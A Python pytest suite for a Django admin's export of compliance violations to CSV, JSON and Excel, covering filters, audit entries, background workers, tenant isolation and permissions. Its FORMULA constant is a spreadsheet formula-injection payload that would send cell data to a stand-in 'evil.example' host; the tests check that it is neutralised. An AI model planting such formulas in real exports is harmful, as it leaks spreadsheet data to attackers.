"""Violations as files: complete, filtered, harmless in a spreadsheet, and one's own."""

import csv
import io
import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
from django.db import connection
from django.http import QueryDict
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.models import User
from accounts.roles import Role
from audit.models import AuditEntry
from compliance.models import Evaluation, Violation
from core.errors import Conflict
from core.spreadsheets import cut, harmless
from dashboard.admin import lists
from dashboard.models import Export
from dashboard.services.exports import ask_for_export, cancel_export, remove_expired
from dashboard.tasks import violations_of
from dashboard.writing import write_next
from tests import factories
from tests.admin.pages import list_of, page_of, text_of
from tests.api.reading import findings

EXPORT = reverse("admin:compliance_violation_export")
FORMULA = '=HYPERLINK("https://evil.example?"&A1) (R01)'


@pytest.fixture
def browser(browser_for: Callable[..., Client], viewer: User, settings: Any, tmp_path: Path) -> Client:
    """A viewer's browser."""
    settings.MEDIA_ROOT = str(tmp_path)
    return browser_for(viewer)


@pytest.fixture
def found(judge: Callable[..., Evaluation], report: Callable[..., Any]) -> None:
    """Two violations, one with a message that a spreadsheet would compute."""
    judge(report(deny=[FORMULA], warn=["WARNING [Security/R02]: in apps/b.ts\x07"], changed_files=["apps/b.ts"]))


@pytest.fixture
def long(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every export is too long to be waited for."""
    monkeypatch.setattr(lists, "AT_ONCE", {"csv": 0, "json": 0, "xlsx": 0})


def export(browser: Client, kind: str, **filters: str) -> Any:
    """Ask for the file."""
    return browser.post(EXPORT, {"format": kind}, query_params=filters)


def content(response: Any) -> bytes:
    """What is sent."""
    assert response.status_code == 200, response
    return b"".join(response.streaming_content)


def csv_rows(response: Any) -> list[dict[str, str]]:
    """A CSV answer's rows."""
    return list(csv.DictReader(io.StringIO(content(response).decode(), newline="")))


def test_json_holds_every_violation_as_it_is(browser: Client, found: None) -> None:
    rows = {row["rule"]: row for row in json.loads(content(export(browser, "json")))}
    violation = Violation.objects.get(rule="R01")
    assert (rows["R01"]["message"], rows["R01"]["id"]) == (FORMULA, str(violation.pk))
    assert rows["R01"]["url"].endswith(page_of(violation))
    assert (rows["R02"]["author"], rows["R02"]["file_path"], rows["R02"]["pr_number"]) == ("kim", "apps/b.ts", 1)


def test_a_formula_in_excel_is_only_text(browser: Client, found: None) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(content(export(browser, "xlsx")))).active
    [header, *rows] = sheet.iter_rows()
    column = [cell.value for cell in header].index("message")
    assert {row[column].data_type for row in rows} == {"s"}
    assert sorted(row[column].value for row in rows)[0] == f"'{FORMULA}"


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r\n=1", "  =1", "＝1", "\n@x"])
def test_what_a_spreadsheet_would_compute_gets_an_apostrophe(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["a=b", "R01", "", 7, "ü"])
def test_other_cells_stay_as_they_are(cell: object) -> None:
    assert cut(harmless(cell)) == cell


def test_excel_gets_no_more_than_a_cell_holds() -> None:
    assert (len(cut("x" * 40_000)), cut("x" * 32_767)) == (32_767, "x" * 32_767)


@pytest.mark.parametrize(
    ("filters", "rules"),
    [
        ({"rule__id__exact": "R01"}, ["R01"]),
        ({"standing": "live"}, ["R01", "R02"]),
        ({"standing": "FIXED"}, []),
        ({"q": "apps/b"}, ["R02"]),
        ({"q": "r01 hyperlink"}, ["R01"]),
        ({"author": "kim", "file": "apps/"}, ["R02"]),
    ],
)
def test_a_file_holds_what_the_list_shows(
    filters: dict[str, str], rules: list[str], browser: Client, found: None
) -> None:
    assert sorted(row["rule"] for row in csv_rows(export(browser, "csv", **filters))) == rules
    shown = browser.get(EXPORT, filters)
    assert shown.context["number"] == len(rules)


def test_the_lists_button_keeps_the_filters(browser: Client, found: None) -> None:
    page = browser.get(list_of("compliance_violation"), {"standing": "live"}).content.decode()
    assert f'href="{EXPORT}?standing=live"' in page


def test_an_export_is_recorded(browser: Client, found: None, viewer: User) -> None:
    content(export(browser, "csv", standing="live"))
    entry = AuditEntry.objects.get(action="violations.exported")
    assert (entry.actor, entry.after) == (viewer.username, {"format": "csv", "filters": {"standing": ["live"]}})


def test_a_long_one_is_written_by_a_worker_and_waited_for(
    browser: Client, long: None, judge: Callable[..., Evaluation], report: Callable[..., Any]
) -> None:
    judge(report(deny=findings(3)))
    page = export(browser, "xlsx", file="src/")["Location"]
    assert "0 of about" in text_of(browser.get(page))
    write_next(violations_of)
    assert "3 rows." in text_of(browser.get(page))
    written = Export.objects.get()
    download = browser.get(reverse("admin:dashboard_export_download", args=[written.pk]))
    sheet = openpyxl.load_workbook(io.BytesIO(content(download))).active
    assert sheet.max_row == 4
    assert "attachment; filename=" in download["Content-Disposition"]


def test_a_page_that_waits_is_told_nothing_until_there_is_news(browser: Client, long: None, found: None) -> None:
    page = export(browser, "csv")["Location"]
    tag = browser.get(page)["ETag"]
    asking = {"HX-Request": "true", "If-None-Match": tag}
    assert browser.get(page, headers=asking).status_code == 304
    write_next(violations_of)
    assert browser.get(page, headers=asking).status_code == 200


def test_a_file_is_nobody_elses(
    browser: Client, long: None, found: None, browser_for: Callable[..., Client], tenant_admin: User
) -> None:
    page = export(browser, "csv")["Location"]
    write_next(violations_of)
    [written] = Export.objects.all()
    other = browser_for(tenant_admin)
    assert other.get(page).status_code == 302
    for verb, send in (("download", other.get), ("cancel", other.post)):
        assert send(reverse(f"admin:dashboard_export_{verb}", args=[written.pk])).status_code == 404
    assert content(browser.get(reverse("admin:dashboard_export_download", args=[written.pk])))


def test_a_file_lies_in_its_tenants_folder_until_its_time_is_up(
    browser: Client, long: None, found: None, tmp_path: Path, acme: Any
) -> None:
    export(browser, "csv")
    write_next(violations_of)
    [written] = Export.objects.all()
    [file] = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert file.relative_to(tmp_path).parts[:2] == (str(acme.uuid), "exports")
    assert remove_expired(at=timezone.now()) == 0
    assert remove_expired(at=written.expires_at) == 1
    assert not file.exists()


def test_who_cancels_stops_the_writing(browser: Client, long: None, found: None, tmp_path: Path) -> None:
    export(browser, "csv")
    [asked] = Export.objects.all()

    def cancelled(one: Export) -> Any:
        cancel_export(asked)
        return violations_of(one)

    assert write_next(cancelled)
    assert not [path for path in tmp_path.rglob("*") if path.is_file()]


def test_what_cannot_be_written_is_said(browser: Client, long: None, found: None, viewer: User) -> None:
    page = export(browser, "csv")["Location"]
    viewer.groups.clear()
    write_next(violations_of)
    viewer.groups.add(factories.user(Role.VIEWER, password="correct horse").groups.get())
    assert "You may not see violations any more." in text_of(browser.get(page))


def test_a_person_waits_for_so_many_at_once(viewer: User) -> None:
    def ask() -> Export:
        return ask_for_export(kind="csv", query=QueryDict(), expected=1, by=viewer, at=timezone.now())

    for _ in range(3):
        ask()
    with pytest.raises(Conflict, match="let one be finished"):
        ask()


def test_a_file_of_a_dead_worker_is_written_by_the_next(browser: Client, long: None, found: None) -> None:
    export(browser, "csv")
    before = timezone.now() - timedelta(minutes=1)
    Export.objects.update(status=Export.Status.PROCESSING, attempts=1, claimed_until=before)
    write_next(violations_of)
    assert (Export.objects.get().status, Export.objects.get().rows) == (Export.Status.DONE, 2)


@pytest.mark.parametrize("number", [1, 3])
def test_an_export_takes_as_many_queries_for_three_rows_as_for_one(
    number: int, browser: Client, judge: Callable[..., Evaluation], report: Callable[..., Any]
) -> None:
    for pull in range(1, number + 1):
        judge(report(pr_number=pull, deny=[f"HARD STOP [Security/R0{pull}]: in apps/{pull}.ts"]))
    content(export(browser, "csv"))  # the host's name is looked up once a minute
    with CaptureQueriesContext(connection) as captured:
        assert len(csv_rows(export(browser, "csv"))) == number
    made = [query["sql"].split()[0] for query in captured]
    assert sum(verb not in ("SET", "SAVEPOINT", "RELEASE") for verb in made) == 11


def test_whoever_may_not_read_may_not_export(browser_for: Callable[..., Client], found: None) -> None:
    browser = browser_for(factories.user(Role.CI_REPORTER, password="correct horse"))
    assert export(browser, "csv").status_code == 403
    assert browser.get(EXPORT).status_code == 403


@pytest.mark.parametrize(("kind", "query"), [("exe", {}), ("csv", {"pull_request__id__exact": "1"})])
def test_nonsense_is_led_back_to_the_list(kind: str, query: dict[str, str], browser: Client, found: None) -> None:
    assert export(browser, kind, **query)["Location"] == list_of("compliance_violation")
